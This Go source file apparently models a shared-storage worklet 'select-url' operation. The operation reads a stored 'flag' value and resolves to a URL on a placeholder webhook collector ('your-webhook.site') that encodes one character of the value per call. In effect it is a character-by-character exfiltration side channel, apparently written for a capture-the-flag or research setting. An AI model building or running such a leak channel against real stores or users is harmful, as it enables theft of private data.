// Package worklet implements the URL-selection operations Holvi runs
// against the shared store.
//
// The model follows the shared-storage worklet contract: an operation
// gets read access to the store, inspects what it needs, and resolves
// to a single URL picked from a fixed candidate list (or to nothing).
// The operation itself never touches the network; the returned URL is
// plain data for the caller to act on.
package worklet

import (
	"context"
	"fmt"
)

// Alphabet is the fixed, ordered symbol set an operation can encode
// into a candidate URL. One candidate exists per symbol, always in
// this order.
const Alphabet = "abcdefghijklmnopqrstuvwxyz0123456789{}_-"

// BeaconBase is the built-in collector the select-url operation points
// its candidates at.
const BeaconBase = "https://your-webhook.site/"

// DefaultKey is the entry select-url reads.
const DefaultKey = "flag"

// Store is the read access an operation gets to shared storage.
// A missing key is reported through ok, not through err; err is
// reserved for host faults the operation cannot reason about.
type Store interface {
	Get(ctx context.Context, key string) (value string, ok bool, err error)
}

// Candidates builds the ordered candidate list for a collector base
// URL: one templated URL per Alphabet symbol, in Alphabet order. The
// list is rebuilt on every call; callers own the returned slice.
func Candidates(base string) []string {
	out := make([]string, 0, len(Alphabet))
	for i := 0; i < len(Alphabet); i++ {
		out = append(out, fmt.Sprintf("%s?char=%c", base, Alphabet[i]))
	}
	return out
}

// SelectCharAt reads the entry under key and resolves the candidate
// URL encoding the character at index. The outcome is reported through
// ok: a missing key, an index past the end of the value, and a
// character outside Alphabet all resolve to no URL, uniformly and
// without error.
func SelectCharAt(ctx context.Context, st Store, key string, index int, base string) (string, bool, error) {
	value, ok, err := st.Get(ctx, key)
	if err != nil {
		return "", false, fmt.Errorf("worklet: get %q: %w", key, err)
	}
	if !ok {
		return "", false, nil
	}
	if index < 0 || index >= len(value) {
		return "", false, nil
	}
	c := value[index]

	cands := Candidates(base)
	for i := 0; i < len(Alphabet); i++ {
		if Alphabet[i] == c {
			return cands[i], true, nil
		}
	}
	return "", false, nil
}

// SelectURL is the fixed select-url operation: read DefaultKey, encode
// its first character, resolve against the BeaconBase candidates.
func SelectURL(ctx context.Context, st Store) (string, bool, error) {
	return SelectCharAt(ctx, st, DefaultKey, 0, BeaconBase)
}
